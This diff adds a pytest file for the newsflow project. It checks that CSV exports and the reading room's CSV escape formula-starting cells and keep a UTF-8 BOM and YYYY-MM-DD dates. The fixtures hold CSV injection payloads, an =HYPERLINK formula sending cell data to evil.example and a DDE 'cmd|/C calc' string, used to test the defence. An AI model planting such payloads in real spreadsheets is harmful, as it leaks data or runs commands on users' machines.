@@ -1,0 +1,123 @@
+"""Every CSV newsflow writes is safe to open in Excel: a partner's "=HYPERLINK(…)" headline stays text.
+
+`newsflow export`, the reading room's CSV (/-/search.csv, linked from the tag and partner pages) and `newsflow
+report` all go through ``report.text_cell``; the reading room's CSV is UTF-8 with a BOM and gives dates as
+YYYY-MM-DD, as export and report do. JSON export is a machine format and stays as stored.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import csv
+import io
+import json
+import sqlite3
+
+import pytest
+from click.testing import CliRunner
+
+from newsflow.browse import make_datasette
+from newsflow.cli import cli
+
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Click me") HOPE'
+AT_TITLE = "@SUM(1+1)*cmd|'/C calc'!A0 -HOPE"
+FORMULA_TEXT = "=1+1 is what this paragraph starts with."
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture(scope="module")
+def demo(tmp_path_factory):
+    db = tmp_path_factory.mktemp("csvsafety") / "archive.db"
+    assert CliRunner().invoke(cli, ["demo", "--db", str(db), "--port", "0"]).exit_code == 0
+    return db
+
+
+@pytest.fixture
+def hostile(demo, tmp_path):
+    """A copy of the demo archive where two HOPE releases carry formulas, as a hostile newsroom could write them."""
+    db = tmp_path / "hostile.db"
+    with sqlite3.connect(demo) as src, sqlite3.connect(db) as dst:
+        src.backup(dst)
+    with sqlite3.connect(db) as conn:
+        first, second = (
+            r[0]
+            for r in conn.execute(
+                "select article_id from article_tags where tag_id = 'hope' order by article_id desc limit 2"
+            )
+        )
+        conn.execute(
+            "update articles set title = ?, text = ? || char(10) || text where id = ?",
+            [FORMULA_TITLE, FORMULA_TEXT, first],
+        )
+        conn.execute("update paragraphs set text = ? where article_id = ? and position = 0", [FORMULA_TEXT, first])
+        conn.execute("update articles set title = ? where id = ?", [AT_TITLE, second])
+    return db
+
+
+def get(db, path):
+    async def go():
+        return await make_datasette(db).client.get(path)
+
+    return asyncio.run(go())
+
+
+def formula_cells(rows: list[list[str]]) -> list[str]:
+    return [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]
+
+
+def test_one_function_for_every_csv_cell():
+    from newsflow.report import text_cell
+
+    assert text_cell(FORMULA_TITLE) == "'" + FORMULA_TITLE
+    for start in FORMULA_START:
+        assert text_cell(start + "x") == "'" + start + "x"
+    assert text_cell("Seinäjoki 2021-03-01") == "Seinäjoki 2021-03-01"
+    assert text_cell("") == ""
+
+
+def test_export_csv_keeps_formulas_as_text(hostile, tmp_path):
+    out = tmp_path / "export.csv"
+    assert CliRunner().invoke(cli, ["export", "--db", str(hostile), "-o", str(out)]).exit_code == 0
+    raw = out.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
+    assert formula_cells(rows) == []
+    titles = {r["title"] for r in csv.DictReader(io.StringIO(raw.decode("utf-8-sig")))}
+    assert {"'" + FORMULA_TITLE, "'" + AT_TITLE} <= titles
+    assert "Healthy Kids of Seinäjoki -malli esiteltiin Mariborissa" in titles  # other cells as they were
+    texts = [r["text"] for r in csv.DictReader(io.StringIO(raw.decode("utf-8-sig")))]
+    assert any(t.startswith("'" + FORMULA_TEXT) for t in texts)
+    # To standard output too (the same writer).
+    printed = CliRunner().invoke(cli, ["export", "--db", str(hostile), "--tag", "hope"])
+    assert printed.exit_code == 0 and formula_cells(list(csv.reader(io.StringIO(printed.stdout)))) == []
+
+
+def test_json_export_stays_as_stored(hostile):
+    out = CliRunner().invoke(cli, ["export", "--db", str(hostile), "--format", "json"])
+    titles = {r["title"] for r in json.loads(out.stdout)}
+    assert {FORMULA_TITLE, AT_TITLE} <= titles
+
+
+@pytest.mark.parametrize("path", ["/-/search.csv", "/-/search.csv?tag=hope", "/-/search.csv?q=HOPE"])
+def test_reading_room_csv_keeps_formulas_as_text(hostile, path):
+    answer = get(hostile, path)
+    assert answer.status_code == 200
+    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
+    assert len(rows) > 2 and formula_cells(rows) == []
+    titles = {r["title"] for r in csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig")))}
+    assert {"'" + FORMULA_TITLE, "'" + AT_TITLE} <= titles
+
+
+def test_reading_room_csv_opens_in_excel_as_export_does(demo, tmp_path):
+    """A byte-order mark (else Excel shows "SeinÃ¤joki"), and the published date as YYYY-MM-DD ("" when undated)."""
+    answer = get(demo, "/-/search.csv")
+    assert answer.content.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
+    assert "published" in rows[0] and any("Seinäjoki" in r["title"] for r in rows)
+    out = tmp_path / "export.csv"
+    assert CliRunner().invoke(cli, ["export", "--db", str(demo), "-o", str(out)]).exit_code == 0
+    exported = {r["title"]: r["published"] for r in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig")))}
+    assert {r["title"]: r["published"] for r in rows} == exported
+    assert all(len(r["published"]) in (0, 10) for r in rows) and any(r["published"] == "" for r in rows)
+    with sqlite3.connect(demo) as conn:  # the demo has full timestamps: they are cut to the day
+        assert conn.execute("select count(*) from articles where length(published) > 10").fetchone()[0] > 0
